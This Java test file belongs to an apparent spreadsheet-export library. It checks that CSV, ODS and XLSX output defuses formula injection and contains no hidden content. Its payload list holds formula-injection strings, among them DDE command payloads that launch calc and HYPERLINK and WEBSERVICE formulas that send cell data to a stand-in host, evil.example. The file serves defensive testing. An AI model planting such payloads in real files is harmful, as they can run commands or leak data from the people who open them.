package uk.saferhub.tables;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeFalse;

import java.io.IOException;
import java.io.OutputStream;
import java.io.StringWriter;
import java.math.BigDecimal;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.zip.ZipFile;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import uk.saferhub.tables.reading.TableBooks;
import uk.saferhub.tables.reading.TableRow;

/** quality.md B5.5: whatever somebody typed, no spreadsheet runs it; and B5.3: nothing is in a file that is not on the screen. */
class HarmlessCellsTest {

    private static final List<String> PAYLOADS = List.of(
            "=1+1",
            "=cmd|'/C calc'!A0",
            "=HYPERLINK(\"http://evil.example?x=\"&A1,\"Click\")",
            "=WEBSERVICE(\"http://evil.example\")",
            "+1+1",
            "+cmd|'/C calc'!A0",
            "+44 7700 900123",
            "-1+1",
            "-2+3+cmd|'/C calc'!A0",
            "@SUM(1+1)",
            "@A1",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            " =1+1",
            "  +1",
            "\u00a0=1+1",
            "\"=1+1",
            "'=1+1",
            "\"\"=1+1",
            "\uFEFF=1+1",
            "\uFF1D1+1",
            "\uFF0B1",
            "\uFF0D1",
            "\uFF20A1",
            "=DDE(\"cmd\";\"/C calc\";\"x\")",
            "=IMPORTXML(\"http://evil.example\",\"//a\")",
            "=1+1;=2",
            "=1\",\"=2",
            "=1\n=2",
            "=1\r\n=2",
            "\0=1+1",
            "=\u0000",
            "-",
            "=",
            "@",
            "+",
            "%0A=1",
            ";=1+1",
            ",=1+1");

    private static final List<ListColumn<String>> COLUMNS =
            List.of(ListColumn.of("Words", words -> words), ListColumn.of("Number", words -> -words.length()));

    @TempDir
    Path folder;

    @Test
    void B5_5_no_cell_of_forty_payloads_begins_a_formula() {
        assertThat(PAYLOADS).hasSize(40);
        for (String payload : PAYLOADS) {
            String text = Cell.of(payload).text();
            assertThat(text.isEmpty() || "=+-@\t\r\n\0".indexOf(text.charAt(0)) < 0)
                    .as(payload)
                    .isTrue();
            assertThat(text.replaceFirst("^[ \u00a0\uFEFF\"]+", ""))
                    .as(payload)
                    .doesNotStartWith("=")
                    .doesNotStartWith("+");
        }
    }

    @Test
    void numbers_and_days_stay_numbers_and_days_and_plain_words_stay_as_they_are() {
        assertThat(Cell.of(-5)).isEqualTo(new Cell(Cell.Kind.NUMBER, "-5"));
        assertThat(Cell.of(new BigDecimal("1E+3"))).isEqualTo(new Cell(Cell.Kind.NUMBER, "1000"));
        assertThat(Cell.of(LocalDate.of(2026, 6, 4))).isEqualTo(new Cell(Cell.Kind.DATE, "2026-06-04"));
        assertThat(Cell.of("O'Neill, 3-5 High Street").text()).isEqualTo("O'Neill, 3-5 High Street");
        assertThat(Cell.of("07700 900123").text()).isEqualTo("07700 900123");
    }

    @Test
    void a_csv_file_has_its_columns_first_its_rows_and_its_marking_last() throws IOException {
        var out = new StringWriter();
        CsvFile.write(new ListTable<>("T", "", COLUMNS, List.of("a \"b\", c", "=1")), "OFFICIAL. 2 rows.", out);
        assertThat(out.toString())
                .isEqualTo("\uFEFFWords,Number\r\n\"a \"\"b\"\", c\",-8\r\n'=1,-2\r\nOFFICIAL. 2 rows.\r\n");
    }

    @Test
    void an_open_document_has_two_sheets_that_are_shown_and_nothing_else() throws IOException {
        Path file = ods(PAYLOADS);
        assertThat(TableBooks.open(file).sheets()).hasSize(2).noneMatch(sheet -> sheet.hidden());
        assertThat(rows(file, "List")).hasSize(PAYLOADS.size() + 1);
        try (var zip = new ZipFile(file.toFile())) {
            assertThat(zip.stream().map(entry -> entry.getName()))
                    .containsExactly("mimetype", "META-INF/manifest.xml", "content.xml");
            String content =
                    new String(zip.getInputStream(zip.getEntry("content.xml")).readAllBytes());
            assertThat(content).doesNotContain("formula", "named-range", "annotation", "xlink", "display=\"false\"");
        }
    }

    @Test
    void B5_5_libreoffice_opens_the_file_and_evaluates_nothing() throws Exception {
        assumeFalse(Boolean.getBoolean("skip.libreoffice"), "Skipped by -Dskip.libreoffice=true");
        assertThat(Path.of("/usr/bin/soffice"))
                .as("LibreOffice: apt install libreoffice-calc-nogui, or run with -Dskip.libreoffice=true")
                .isExecutable();
        for (Path file : List.of(ods(PAYLOADS), xlsx(PAYLOADS))) opensAsTyped(file);
    }

    @Test
    void a_workbook_of_the_other_kind_has_two_sheets_that_are_shown_typed_cells_and_nothing_else() throws IOException {
        var columns = List.<ListColumn<Object>>of(ListColumn.of("Any", value -> value));
        List<Object> values =
                List.of(LocalDate.of(2026, 6, 4), LocalDate.of(1899, 1, 1), -5, "_x003D_1+1", "a\r\nb & <c>");
        Path file = folder.resolve("list.xlsx");
        try (OutputStream out = Files.newOutputStream(file)) {
            XlsxFile.write(new ListTable<>("T", "", columns, values), List.of("OFFICIAL."), out);
        }
        assertThat(TableBooks.open(file).sheets()).hasSize(2).noneMatch(sheet -> sheet.hidden());
        assertThat(rows(file, "List").stream().map(row -> row.cell(0)))
                .containsExactly("Any", "2026-06-04", "1899-01-01", "-5", "_x005F_x003D_1+1", "a\nb & <c>");
        assertThat(rows(file, "About").getFirst().cell(0)).isEqualTo("OFFICIAL.");
        try (var zip = new ZipFile(file.toFile())) {
            assertThat(zip.stream().map(entry -> entry.getName()))
                    .containsExactly(
                            "[Content_Types].xml",
                            "_rels/.rels",
                            "xl/_rels/workbook.xml.rels",
                            "xl/workbook.xml",
                            "xl/styles.xml",
                            "xl/worksheets/sheet1.xml",
                            "xl/worksheets/sheet2.xml");
            String sheet = new String(
                    zip.getInputStream(zip.getEntry("xl/worksheets/sheet1.xml")).readAllBytes());
            assertThat(sheet).doesNotContain("<f>", "hidden", "hyperlink", "legacyDrawing");
        }
    }

    /** Also what LibreOffice makes of it: no payload became a number or an error. */
    private void opensAsTyped(Path file) throws Exception {
        var profile = folder.resolve("profile").toUri();
        Process office = new ProcessBuilder(
                        "soffice",
                        "-env:UserInstallation=" + profile,
                        "--headless",
                        "--convert-to",
                        "csv:Text - txt - csv (StarCalc):44,34,76",
                        "--outdir",
                        folder.toString(),
                        file.toString())
                .redirectErrorStream(true)
                .redirectOutput(folder.resolve("soffice.log").toFile())
                .start();
        assertThat(office.waitFor(90, TimeUnit.SECONDS)).isTrue();
        Path csv = folder.resolve("list.csv");
        List<TableRow> rows = rows(csv, "");
        assertThat(rows.stream().filter(row -> row.filled() > 0)).hasSize(PAYLOADS.size() + 1);
        assertThat(rows)
                .noneMatch(row -> row.cell(0).equals("2")
                        || row.cell(0).equals("0")
                        || row.cell(0).startsWith("Err:"));
        assertThat(rows.get(1).cells()).containsExactly("'=1+1", "-4");
    }

    private Path ods(List<String> words) throws IOException {
        Path file = folder.resolve("list.ods");
        try (OutputStream out = Files.newOutputStream(file)) {
            OdsFile.write(new ListTable<>("T", "", COLUMNS, words), List.of("OFFICIAL."), out);
        }
        return file;
    }

    private Path xlsx(List<String> words) throws IOException {
        Path file = folder.resolve("list.xlsx");
        try (OutputStream out = Files.newOutputStream(file)) {
            XlsxFile.write(new ListTable<>("T", "", COLUMNS, words), List.of("OFFICIAL."), out);
        }
        return file;
    }

    private static List<TableRow> rows(Path file, String sheet) {
        var rows = new ArrayList<TableRow>();
        TableBooks.open(file).rows(sheet, rows::add);
        return rows;
    }
}
